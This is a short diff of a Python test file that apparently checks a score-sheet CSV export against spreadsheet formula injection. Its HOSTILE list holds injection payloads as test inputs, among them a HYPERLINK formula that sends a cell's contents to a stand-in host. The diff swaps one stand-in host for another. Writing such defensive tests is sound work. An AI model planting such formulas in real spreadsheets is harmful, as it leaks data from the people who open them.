@@ -14,7 +14,7 @@ from referee.ledger.exchange import FORMULA_TRIGGERS, score_sheet_csv, tally
 
 GAMES = Path(__file__).parent.parent / "games"
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"go")', "+1+1", "-2+3", "@SUM(A1:A9)"]
 
 
 def carrillo_with(names: list[str]) -> str:
